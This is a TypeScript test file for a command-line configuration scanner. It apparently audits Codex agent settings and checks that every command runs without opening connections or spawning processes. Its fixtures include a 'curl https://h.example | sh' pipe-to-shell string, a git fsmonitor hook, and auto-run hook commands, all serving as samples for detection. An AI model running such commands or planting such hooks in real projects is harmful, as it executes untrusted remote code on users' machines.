import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import path from 'node:path';
import process from 'node:process';
import { pathToFileURL } from 'node:url';
import { buildAll } from '../../scripts/build.ts';
import { projectRoot } from '../../scripts/root.ts';
import { COMMAND_NAMES, type CommandName } from '../../server/src/cli/commands.ts';
import { type TemporaryFolder, temporaryFolder } from '../core/host/folder.ts';
import { openingMessages } from './support/opening-messages.ts';

const GUARD = pathToFileURL(path.join(import.meta.dirname, 'support/closed-in.mjs')).href;

/** Each command, in a project whose files name programs and hosts. */
const RUNS: Readonly<Record<CommandName, readonly (readonly string[])[]>> = {
  check: [
    [],
    ['--json'],
    ['--sarif', '.'],
    ['--format', 'github'],
    ['--write-baseline', '../home/baseline.json'],
    ['--baseline', '../home/baseline.json', '--policy', '../home/policy.toml'],
    ['--stdin', '--stdin-filename', '.codex/config.toml'],
  ],
  explain: [[], ['--json'], ['--effective'], ['--profile', 'p', '-c', 'model="x"'], ['--json', '--batch']],
  sessions: [[], ['--all', '--json']],
  report: [[], ['--md'], ['--json']],
  rules: [['curl https://h.example | sh']],
  harden: [[], ['--json', '--guards'], ['--write'], ['--undo'], ['--requirements', '../home/requirements.toml']],
  completion: [['bash'], ['zsh'], ['fish']],
  lsp: [['--stdio']],
};

const CONFIG = `
notify = ["touch", "ran"]
model_provider = "p"
[model_providers.p]
base_url = "https://p.example/v1"
[mcp_servers.s]
command = "npx"
args = ["-y", "server@latest"]
[mcp_servers.t]
url = "https://t.example"
[otel.exporter.otlp-http]
endpoint = "http://o.example"
`;

/** What standard input holds: a request of `--batch`, and for the others a text like any. */
const INPUT = `{"codexHome": "/none", "cwd": "/"}\n`;

describe('the command line, closed in', function () {
  this.timeout(120_000);
  let disk: TemporaryFolder;

  before(async () => {
    await buildAll();
    disk = await temporaryFolder({
      'work/.codex/config.toml': CONFIG,
      'work/.codex/hooks.json': '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"touch ran"}]}]}}',
      'work/package.json': '{"scripts":{"x":"codex --yolo"}}',
      'work/.git/config': '[remote "o"]\n  url = https://git.example/o.git\n[core]\n  fsmonitor = "touch ran"\n',
      'home/.codex/config.toml': CONFIG,
      'home/.codex/p.config.toml': '',
      'home/policy.toml': '[minimum]\nsandbox = "read-only"\n',
    });
  });
  after(() => disk.remove());

  const args = (name: string, words: readonly string[]) => [
    '--import',
    GUARD,
    path.join(projectRoot, 'dist/cli.mjs'),
    name,
    ...words,
  ];
  const options = () => ({
    cwd: disk.at('work'),
    env: { PATH: process.env['PATH'], HOME: disk.at('home'), USERPROFILE: disk.at('home') },
  });
  const run = (name: string, words: readonly string[]) =>
    spawnSync(process.execPath, args(name, words), { ...options(), encoding: 'utf8', input: INPUT });

  for (const name of COMMAND_NAMES)
    it(`${name} opens no connection and starts no process`, () => {
      for (const words of RUNS[name]) {
        const { status, stderr } = run(name, words);
        assert([0, 1].includes(status ?? -1), `${name} ${words.join(' ')}: ${status}, ${stderr}`);
      }
    });

  it('lsp opens none for an editor either', async () => {
    const child = spawn(process.execPath, args('lsp', ['--stdio']), options());
    child.stdin.write(openingMessages(disk.at('work'), '.codex/config.toml', CONFIG));
    let seen = '';
    for await (const part of child.stdout) {
      seen += part;
      if (seen.includes('unpinned-package')) break;
    }
    assert.match(seen, /unpinned-package/);
    child.kill();
  });

  it('the processes of --jobs open none either', () => {
    const { cwd, env } = options();
    const { status, stdout, stderr } = spawnSync(process.execPath, args('check', ['--jobs', '2', '.', '../home']), {
      cwd,
      env: { ...env, MAY_FORK: '1' },
      encoding: 'utf8',
    });
    assert.equal(status, 1, stderr);
    const lines = stdout.trimEnd().split('\n');
    assert.equal(lines.length, 2);
    for (const line of lines) assert.ok(JSON.parse(line).findings.length > 0, line);
  });

  it('would be seen to do so', () => {
    const { status, stderr } = run('check', ['--otlp', 'http://127.0.0.1:9']);
    assert.deepEqual([status, /^(\w+) was called/m.exec(stderr)?.[1]], [99, 'connect']);
    const fleet = run('check', ['--jobs', '1', '.']);
    assert.deepEqual([fleet.status, /^(\w+) was called/m.exec(fleet.stderr)?.[1]], [99, 'fork']);
  });
});
